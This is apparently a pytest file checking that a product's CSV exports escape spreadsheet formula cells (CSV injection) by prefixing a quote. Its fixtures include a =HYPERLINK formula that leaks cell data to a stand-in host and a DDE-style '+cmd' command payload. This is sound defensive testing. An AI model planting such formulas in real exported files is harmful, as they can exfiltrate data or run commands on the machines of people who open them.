"""Every CSV the product writes holds no cell a spreadsheet would run (OWASP's rule for CSV injection).

A source_ref, a path, a note or a reviewer's name that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is written with a ``'`` in front: a spreadsheet shows it as text and never
follows ``=HYPERLINK(...)``. Read back with Python's csv module, each such cell is its text after the
quote, and every other cell is exactly what was there.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from core.cli import main
from core.output.spreadsheet import FORMULA_STARTS, safe_cell
from tests.review_helpers import duplicate_group, open_review

__all__ = ["open_review"]  # the fixture

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
STARTS = ["=1+1", "+cmd|'/C'!A0", "-2+3", "@SUM(A1:A2)"]  # a source_ref holds no space nor control


def _corpus(folder):
    records = [{"doc_id": f"d{n}", "source_ref": ref, "title": "t", "language": "en",
                "body": "same text \N{RIGHT-TO-LEFT OVERRIDE} here"}
               for n, ref in enumerate([HYPERLINK, *STARTS, "plain-ref"])]
    path = folder / "corpus.jsonl"
    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
    return path


def _cells(capsys, argv) -> list[list[str]]:
    assert main([str(part) for part in argv]) == 0
    return list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))


def _no_formula(rows):
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, (cell, row)


def test_group_csv_writes_every_formula_as_text(tmp_path, capsys):
    rows = _cells(capsys, ["group", _corpus(tmp_path), "--format", "csv"])
    _no_formula(rows)
    refs = [row[5] for row in rows[1:]]
    assert refs == ["'" + HYPERLINK, *("'" + start for start in STARTS), "plain-ref"]


def test_sharded_group_csv_writes_a_shard_that_starts_a_formula_as_text(tmp_path, capsys, monkeypatch):
    shard = _corpus(tmp_path)
    other = tmp_path / "=other.jsonl"
    other.write_text(shard.read_text(encoding="utf-8").replace('id": "d', 'id": "e'), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    rows = _cells(capsys, ["group", "corpus.jsonl", "=other.jsonl", "--format", "csv"])
    _no_formula(rows)
    shards = {dict(zip(rows[0], row, strict=True))["shard"] for row in rows[1:]}
    assert shards == {"corpus.jsonl", "'=other.jsonl"}


def test_chars_csv_writes_a_path_that_starts_a_formula_as_text(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "=cmd"
    folder.mkdir()
    _corpus(folder)
    monkeypatch.chdir(tmp_path)
    rows = _cells(capsys, ["chars", "=cmd/corpus.jsonl", "--format", "csv"])
    _no_formula(rows)
    assert rows[1][5] == "'=cmd/corpus.jsonl"


def test_review_export_csv_writes_notes_and_reviewers_as_text(tmp_path, capsys, open_review):
    corpus = _corpus(tmp_path)
    review = open_review(corpus, reviewer="=evil()")
    review.decide(review.subjects.group_subject(duplicate_group(review)), "keep", keeper="d0",
                  note="\t@SUM(1+1)")
    review.close()
    rows = _cells(capsys, ["review", "export", corpus, "--format", "csv"])
    _no_formula(rows)
    header = rows[0]
    decided = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert {row["reviewer"] for row in decided} == {"'=evil()"}
    assert {row["note"] for row in decided} == {"'\t@SUM(1+1)"}
    assert sorted(row["source_ref"] for row in decided)[0].startswith("'")


@pytest.mark.parametrize("text", ["", "plain", "a=b", "1-2", "x'"])
def test_a_cell_that_starts_no_formula_is_left_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["'=already", "'", "''"])
def test_a_cell_that_starts_with_a_quote_gets_one_more_so_two_cells_never_read_alike(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell(text) != safe_cell(text[1:])
